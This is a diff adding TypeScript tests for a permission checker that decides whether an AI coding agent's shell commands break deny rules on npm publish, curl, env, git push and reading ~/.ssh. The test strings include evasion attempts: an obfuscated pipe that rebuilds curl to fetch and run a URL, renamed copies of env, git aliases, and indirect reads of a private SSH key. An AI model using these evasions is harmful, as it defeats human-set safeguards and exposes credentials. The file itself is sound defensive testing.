@@ -219,3 +219,102 @@ describe('an allowed command', () => {
     expect(isAllowed(command)).toBe(false);
   });
 });
+
+describe('a command of a package manager', () => {
+  test.each([
+    'npm publish',
+    'npm pub',
+    'npm -s publish',
+    'npm --silent publish',
+    'npm --access=public publish',
+    'npm -- publish',
+    '/usr/bin/npm publish',
+    'npx npm publish',
+  ])('%j is denied', (command) => {
+    expect(effectOf(['deny Bash(npm publish:*)'], command)).toBe('deny');
+  });
+
+  test.each([
+    'npm --tag next publish',
+    'npm --prefix . publish',
+    'npm -w packages/a publish',
+    'npm --access public --otp 123 publish',
+    'node /usr/lib/node_modules/npm/bin/npm-cli.js publish',
+    'npm pub{lish,}',
+  ])('%j is at least asked about', (command) => {
+    expect(['ask', 'deny']).toContain(effectOf(['deny Bash(npm publish:*)'], command));
+  });
+
+  test.each(['npm run publish', 'npm pack', 'npm view publish', 'npm install publish', 'npm p'])(
+    '%j is another',
+    (command) => {
+      expect(effectOf(['deny Bash(npm publish:*)'], command)).toBe('allow');
+    },
+  );
+});
+
+describe('a program that must not be used', () => {
+  test.each([
+    'printf "cu%s https://example.com" rl | sh',
+    'cat < /usr/bin/env > e; chmod +x e; ./e x',
+    'cp /usr/bin/../bin/env e; ./e x',
+    'cd /usr/bin; cat ./env > /tmp/e',
+    'BASH_CMDS[e]=/usr/bin/env; e x',
+    'x=\'$(e""nv x)\'; : "${x@P}"',
+    'sudo cp /usr/bin/env e; ./e x',
+    'find /usr/bin -name env -exec {} x \\;',
+  ])('is not reached by %j', (command) => {
+    expect(['ask', 'deny']).toContain(effectOf(['deny Bash(env:*)', 'deny Bash(curl:*)'], command));
+  });
+
+  test.each([
+    'sudo apt-get install -y curl',
+    'apk add curl',
+    'which curl',
+    'man curl',
+    'ls -l /usr/bin/curl',
+    'npm install curl',
+    'grep -rn curl src',
+  ])('may be named by %j', (command) => {
+    expect(effectOf(['deny Bash(curl:*)'], command)).toBe('allow');
+  });
+});
+
+describe('an alias of git', () => {
+  test.each([
+    ['home/.gitconfig', '[user]\n\tname = a\n[alias]\n\tp = push\n'],
+    ['home/.config/git/config', '[alias]\n  p = "!git push"\n'],
+    ['ws/.git/config', '[core]\n\tbare = false\n[alias]\n\tst = status\n\tp = push origin\n'],
+  ])('of %s is the command that it stands for', (file, text) => {
+    const machine = createMachine({ 'ws/.git/HEAD': '', [file]: text });
+    const session = open(machine, {
+      mode: 'bypassPermissions',
+      rules: ['deny Bash(git push:*)'],
+    });
+    const effects = ['git p', 'git -C . p', 'git q'].map(
+      (command) => session.judge(bash(command, machine.root)).effect,
+    );
+    expect(effects).toEqual(['deny', 'deny', 'allow']);
+  });
+});
+
+describe('a key in the home directory', () => {
+  const effectInHome = (command: string): string => {
+    const machine = createMachine({ 'home/.ssh/id': 'key' });
+    const rules = ['deny Read(~/.ssh/**)'];
+    return open(machine, { mode: 'bypassPermissions', rules }).judge(bash(command, machine.root))
+      .effect;
+  };
+
+  test.each([
+    'builtin cd; cat .ssh/id',
+    'command cd ~/.ssh; cat id',
+    'cat ~/.[[:alpha:]]sh/id',
+    'HOME=~/.ssh; cat ~/id',
+    'cd ~ && cat /proc/self/cwd/.ssh/id',
+    'exec 3< ~/.ssh; cat /dev/fd/3/id',
+    'ln -s ~ h; cat h/.ssh/id',
+  ])('is not read by %j', (command) => {
+    expect(['ask', 'deny']).toContain(effectInHome(command));
+  });
+});
